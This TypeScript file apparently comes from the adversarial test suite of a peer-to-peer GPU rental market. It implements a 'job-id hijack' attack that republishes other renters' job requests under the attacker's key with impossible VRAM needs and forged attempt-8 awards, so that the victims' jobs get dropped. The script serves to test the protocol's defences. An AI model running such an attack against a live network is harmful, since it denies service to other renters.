/**
 * Issue 13 attack 1, job-id hijack: every job request another renter publishes comes back under
 * the attacker's key with the same job id — once with a fresh nonce, once with the victim's —
 * asking for impossible VRAM (nobody bids), each followed by an attempt-8 award of it, hoping
 * providers forget the victim's job (its award declined `unknown-job`) and relays drop the
 * victim's attempt-1 award as stale.
 */
import { randomBytes } from 'node:crypto'
import { TOPIC } from '../../../protocols/ids.js'
import { readJobRequest, signAward, signJobRequest, type JobRequest } from '../../../src/market/messages.js'
import { GOSSIP_SERVICE } from '../../../src/node/index.js'
import { untilAborted, type Attack } from './attack.js'
import { awardFor } from './forge.js'

/** More VRAM than any GPU has. */
const IMPOSSIBLE_VRAM_MIB = 4_000_000

export const jobIdHijack: Attack = {
  summary: 'republish every job id seen under the attacker\'s key (fresh and victim nonce) with an attempt-8 award',
  play: async ({ nodes: [me], signal, log }) => {
    if (me == null) throw new Error('no node')
    const victims = new Set<string>()
    let copies = 0
    let awards = 0
    const off = me.libp2p.services[GOSSIP_SERVICE].onMessage(TOPIC.jobs, (envelope) => {
      const seen = readJobRequest(envelope)
      if (seen.signer.equals(me.peerId)) return
      victims.add(seen.signer.toString())
      for (const nonce of [new Uint8Array(randomBytes(16)), seen.message.nonce]) {
        const now = Date.now()
        const copy = signJobRequest(me.privateKey, me.peerId, {
          ...seen.message,
          renter: me.peerId.toMultihash().bytes,
          nonce,
          createdAt: BigInt(now),
          expiresAt: BigInt(now) + seen.message.expiresAt - seen.message.createdAt,
          constraints: { ...(seen.message.constraints as NonNullable<JobRequest['constraints']>), minVramMib: IMPOSSIBLE_VRAM_MIB }
        })
        const award = signAward(me.privateKey, me.peerId, awardFor(copy.message, me.peerId, 1_000_000n, { attempt: 8 }))
        void me.libp2p.services.pubsub.publish(TOPIC.jobs, copy.envelope)
          .then(() => { copies++ })
          .then(async () => await me.libp2p.services.pubsub.publish(TOPIC.awards, award.envelope))
          .then(() => { awards++ }, (err: Error) => { log(`publish failed: ${err.message}`) })
      }
      log(`hijacking job ${Buffer.from(seen.message.jobId).toString('hex')} of ${seen.signer.toString()}`)
    })
    await untilAborted(signal)
    off()
    return { victims: victims.size, copies, awards }
  }
}
